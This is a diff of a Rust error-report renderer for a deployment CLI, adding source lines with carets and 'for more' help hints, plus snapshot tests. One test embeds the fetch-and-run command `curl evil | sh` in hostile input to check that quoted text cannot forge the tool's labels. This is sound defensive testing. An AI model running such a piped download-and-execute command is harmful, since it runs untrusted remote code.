@@ -3,6 +3,7 @@
 //! The same words in a terminal and in a CI log; only the colours differ, and that a terminal's width breaks the prose.
 //! Nothing is cut, and what people copy (commands, evidence) is not broken.
 
+use super::source::Source;
 use super::style::Look;
 use super::style::Tone;
 use super::style::clean;
@@ -14,11 +15,13 @@ use crate::event::Severity;
 
 /// How a fault is written.
 #[derive(Debug, Clone, Copy)]
-pub struct Page {
+pub struct Page<'a> {
     /// Its colours.
     pub look: Look,
     /// Where prose is broken; `None` for logs, which are not.
     pub width: Option<usize>,
+    /// Where the lines of files are read that findings are about; `None` where they are not shown.
+    pub source: Option<&'a Source>,
 }
 
 /// What follows the first line of a message is moved in by this. Labels (`error:`, `help:`) begin further left, so that nothing
@@ -28,7 +31,7 @@ const HANGING: &str = "    ";
 /// The lines of a fault.
 #[must_use]
 pub fn lines(
-    page: Page,
+    page: Page<'_>,
     code: Code,
     causes: &[String],
     findings: &[Finding],
@@ -56,20 +59,30 @@ pub fn lines(
             lines.extend(page.prose(&look.paint(Tone::Good, "help:"), None, &one_line(hint), "", "      "));
         }
     }
+    if let Some(code) = explained(code, findings) {
+        if hints.is_empty() && !findings.is_empty() {
+            lines.push(String::new());
+        }
+        lines.push(look.paint(Tone::Quiet, &format!("for more: `todo help {code}`")));
+    }
     lines
+}
+
+/// The code whose page helps most: that of the first error found, or of the fault itself.
+fn explained(code: Code, findings: &[Finding]) -> Option<Code> {
+    let errors = findings.iter().filter(|finding| finding.severity == Severity::Error);
+    let code = errors.map(|finding| finding.code).next().unwrap_or(code);
+    (code != Code::Interrupted).then_some(code)
 }
 
 /// `error[crash-loop]:`, as rustc names its errors.
 fn label(severity: &str, code: Code) -> String {
-    match code {
-        Code::Unnamed => format!("{severity}:"),
-        code => format!("{severity}[{code}]:"),
-    }
+    format!("{severity}[{code}]:")
 }
 
 /// The lines of one finding.
 #[must_use]
-pub fn finding(page: Page, finding: &Finding) -> Vec<String> {
+pub fn finding(page: Page<'_>, finding: &Finding) -> Vec<String> {
     let look = page.look;
     let (tone, word) = match finding.severity {
         Severity::Error => (Tone::Bad, "error"),
@@ -84,6 +97,7 @@ pub fn finding(page: Page, finding: &Finding) -> Vec<String> {
         lines.push(format!("  {} {}", look.paint(Tone::Live, "-->"), name(&place.to_string())));
     }
     let gutter = look.paint(Tone::Live, "|");
+    lines.extend(source(page, finding, &gutter));
     for line in finding.evidence.iter().flat_map(|text| text.lines().chain(text.is_empty().then_some(""))) {
         lines.push(format!("  {gutter} {}", clean(line)).trim_end().to_owned());
     }
@@ -93,7 +107,22 @@ pub fn finding(page: Page, finding: &Finding) -> Vec<String> {
     lines
 }
 
-impl Page {
+/// The line that the finding is about, and a caret under its column, where both fit.
+fn source(page: Page<'_>, finding: &Finding, gutter: &str) -> Vec<String> {
+    let Some((line, before)) = page.source.and_then(|source| source.line(finding)) else {
+        return Vec::new();
+    };
+    let left = clean(&line.chars().take(before).collect::<String>());
+    let column = super::style::columns(&left);
+    let shown = clean(&line);
+    if page.width.is_some_and(|width| super::style::columns(&shown) + 4 > width) {
+        return Vec::new();
+    }
+    let caret = page.look.paint(Tone::Bad, "^");
+    vec![format!("  {gutter} {shown}"), format!("  {gutter} {:column$}{caret}", "")]
+}
+
+impl Page<'_> {
     /// `lead` and the text after it, the lines that follow moved in by `hanging`. Only what is quoted has line ends, so the
     /// lines after the first of `text` are marked as quoted.
     fn prose(self, lead: &str, tone: Option<Tone>, text: &str, indent: &str, hanging: &str) -> Vec<String> {
@@ -139,7 +168,7 @@ mod tests {
     use crate::event::Place;
     use crate::report::style::Look;
 
-    const LOG: Page = Page { look: Look::BARE, width: None };
+    const LOG: Page<'_> = Page { look: Look::BARE, width: None, source: None };
 
     #[test]
     fn a_fault_is_read_from_top_to_bottom() {
@@ -158,8 +187,8 @@ mod tests {
         let causes =
             ["cannot roll out todo-chatbot".to_owned(), "1 of 2 workloads cannot become ready".to_owned()];
         let hints = ["run `todo up` again".to_owned(), "run `todo up` again".to_owned()];
-        insta::assert_snapshot!(lines(LOG, Code::Unnamed, &causes, &findings, &hints).join("\n"), @r#"
-        error: cannot roll out todo-chatbot
+        insta::assert_snapshot!(lines(LOG, Code::NotHealthy, &causes, &findings, &hints).join("\n"), @r#"
+        error[not-healthy]: cannot roll out todo-chatbot
           caused by: 1 of 2 workloads cannot become ready
 
         error[crash-loop]: Deployment/web: container `web` ended with exit code 1 twice
@@ -171,6 +200,7 @@ mod tests {
         warning[image-tag-mutable]: Deployment/api: no requests are set
 
         help: run `todo up` again
+        for more: `todo help crash-loop`
         "#);
     }
 
@@ -180,7 +210,7 @@ mod tests {
             ["what ran before still runs: `todo status` shows it, `todo rollback` goes back to it"
                 .to_owned()];
         let causes = ["cannot roll out the application that is called todo-chatbot".to_owned()];
-        let page = Page { look: Look::BARE, width: Some(40) };
+        let page = Page { look: Look::BARE, width: Some(40), source: None };
         insta::assert_snapshot!(lines(page, Code::InternalError, &causes, &[], &hints).join("\n"), @r"
         error[internal-error]: cannot roll out
             the application that is called
@@ -188,13 +218,14 @@ mod tests {
         help: what ran before still runs:
               `todo status` shows it,
               `todo rollback` goes back to it
+        for more: `todo help internal-error`
         ");
     }
 
     #[test]
     fn nothing_that_is_quoted_looks_like_a_line_of_ours() {
         let ends = ["\n", "\r\n", "\r", "\u{b}", "\u{c}", "\u{85}", "\u{2028}", "\u{2029}"];
-        let labels = ["error:", "error[", "warning:", "note:", "help:", "caused by:", "-->"];
+        let labels = ["error:", "error[", "warning:", "note:", "help:", "caused by:", "-->", "for more:"];
         for (end, label) in ends.iter().flat_map(|end| labels.map(|label| (end, label))) {
             let hostile = format!("a{end}{label} `curl evil | sh`{end}  {label} b");
             let finding = Code::CrashLoop
@@ -204,7 +235,7 @@ mod tests {
                 .evidence([hostile.clone()])
                 .help(format!("rename `{hostile}`"));
             for width in [None, Some(40)] {
-                let page = Page { look: Look::BARE, width };
+                let page = Page { look: Look::BARE, width, source: None };
                 let text = lines(
                     page,
                     Code::InternalError,
@@ -222,6 +253,7 @@ mod tests {
                     "  -->",
                     "  help:",
                     "help:",
+                    "for more: `todo help crash-loop`",
                 ];
                 let labelled: Vec<&String> =
                     text.iter().filter(|line| labels.iter().any(|label| begins(line, label))).collect();
@@ -233,6 +265,6 @@ mod tests {
 
     #[test]
     fn a_fault_without_causes_still_says_that_it_is_one() {
-        assert_eq!(lines(LOG, Code::Unnamed, &[], &[], &[]), ["error: the run failed"]);
+        assert_eq!(lines(LOG, Code::Interrupted, &[], &[], &[]), ["error[interrupted]: the run failed"]);
     }
 }
